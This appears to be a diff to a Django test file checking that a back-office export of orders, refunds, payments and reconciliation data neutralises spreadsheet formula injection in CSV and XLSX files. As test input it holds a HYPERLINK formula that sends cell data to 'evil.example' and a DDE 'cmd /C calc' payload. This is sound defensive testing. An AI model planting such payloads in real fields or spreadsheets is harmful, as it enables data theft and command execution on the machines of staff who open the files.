@@ -8,8 +8,6 @@ import io
 from decimal import Decimal
 
 import pytest
-from django.contrib.auth import get_user_model
-from django.contrib.auth.models import Group
 from django.utils import timezone
 from openpyxl import load_workbook
 
@@ -23,13 +21,6 @@ URL = "/admin/backoffice/export/"
 NICKNAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 ADDRESS_NAME = "+1+cmd|' /C calc'!A0"
 ADDRESS_DETAIL = "@SUM(1+1)"
-
-
-def _finance(client):
-    user = get_user_model().objects.create_user("finance-clerk", password="pw-123456", is_staff=True)
-    user.groups.add(Group.objects.get(name="财务"))
-    client.force_login(user)
-    return client
 
 
 def _export(client, kind: str, fmt: str, day: dt.date | None = None):
@@ -66,27 +57,27 @@ def hostile_order(api, make_sku, place_order):
 ADDRESS_CELL = f"'{ADDRESS_NAME} 13800000000 浙江省杭州市西湖区{ADDRESS_DETAIL}"
 
 
-def test_orders_csv_neutralises_the_customers_nickname_and_address(client, hostile_order):
-    table = _export(_finance(client), "orders", "csv")
+def test_orders_csv_neutralises_the_customers_nickname_and_address(role_client, hostile_order):
+    table = _export(role_client("财务"), "orders", "csv")
     row = next(r for r in table if r[0] == hostile_order)
     assert row[1] == "'" + NICKNAME
     assert row[13] == ADDRESS_CELL
     assert row[4] == "128.00"  # amounts untouched
 
 
-def test_orders_xlsx_stores_the_nickname_as_text_not_a_formula(client, hostile_order):
-    row = _row(_export(_finance(client), "orders", "xlsx"), hostile_order)
+def test_orders_xlsx_stores_the_nickname_as_text_not_a_formula(role_client, hostile_order):
+    row = _row(_export(role_client("财务"), "orders", "xlsx"), hostile_order)
     assert row[1].value == "'" + NICKNAME and row[1].data_type == "s"
     assert row[13].value == ADDRESS_CELL and row[13].data_type == "s"
     assert row[4].value == 128 and row[4].data_type == "n" and row[4].number_format == "0.00"
     assert not any(cell.data_type == "f" for cell in row)
 
 
-def test_orders_xlsx_drops_control_characters_excel_cannot_hold(client, api, make_sku, place_order, address):
+def test_orders_xlsx_drops_control_characters_excel_cannot_hold(role_client, api, make_sku, place_order, address):
     # openpyxl refuses "\x07" in a cell (IllegalCharacterError): the whole export was a 500.
     assert api.patch("/api/v1/me", {"nickname": "\x07-小明"}, format="json").status_code == 200
     order = place_order(api, items=[(make_sku(), 1)], address=address)
-    row = _row(_export(_finance(client), "orders", "xlsx"), order["order_no"])
+    row = _row(_export(role_client("财务"), "orders", "xlsx"), order["order_no"])
     assert row[1].value == "'-小明" and row[1].data_type == "s"
 
 
@@ -112,9 +103,9 @@ def refunded_payment(api, customer, make_sku, place_order, address):
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
-def test_refunds_export_neutralises_text(client, refunded_payment, fmt):
+def test_refunds_export_neutralises_text(role_client, refunded_payment, fmt):
     out_refund_no, _ = refunded_payment
-    sheet = _export(_finance(client), "refunds", fmt)
+    sheet = _export(role_client("财务"), "refunds", fmt)
     if fmt == "csv":
         row = next(r for r in sheet if r[0] == out_refund_no)
         assert row[6] == "'-2+3+cmd|' /C calc'!A0" and row[4] == "128.00"
@@ -125,9 +116,9 @@ def test_refunds_export_neutralises_text(client, refunded_payment, fmt):
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
-def test_payments_export_neutralises_text(client, refunded_payment, fmt):
+def test_payments_export_neutralises_text(role_client, refunded_payment, fmt):
     _, order_no = refunded_payment
-    sheet = _export(_finance(client), "payments", fmt)
+    sheet = _export(role_client("财务"), "payments", fmt)
     if fmt == "csv":
         row = next(r for r in sheet if r[1] == order_no)
         assert row[6] == "'@SUM(1+1)" and row[4] == "128.00" and row[5] == "128.00"
@@ -138,13 +129,13 @@ def test_payments_export_neutralises_text(client, refunded_payment, fmt):
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
-def test_reconciliation_export_keeps_negative_amounts_numbers(client, fmt):
+def test_reconciliation_export_keeps_negative_amounts_numbers(role_client, fmt):
     # A day with more refunded than paid: WeChat's net is negative. The error text starts with
     # "-" too: text is neutralised, the numbers are not.
     day = dt.date(2026, 11, 30)
     ReconciliationRun.objects.create(bill_date=day, status=ReconciliationRun.Status.DIFFERENCES, wechat_count=2,
                                      local_count=1, wechat_fen=-1234, local_fen=-1000, error="-ERR 账单缺行")
-    sheet = _export(_finance(client), "reconciliation", fmt, day)
+    sheet = _export(role_client("财务"), "reconciliation", fmt, day)
     if fmt == "csv":
         assert sheet[1][:8] == ["2026-11-30", "有差异", "2", "1", "-12.34", "-10.00", "0", "'-ERR 账单缺行"]
     else:
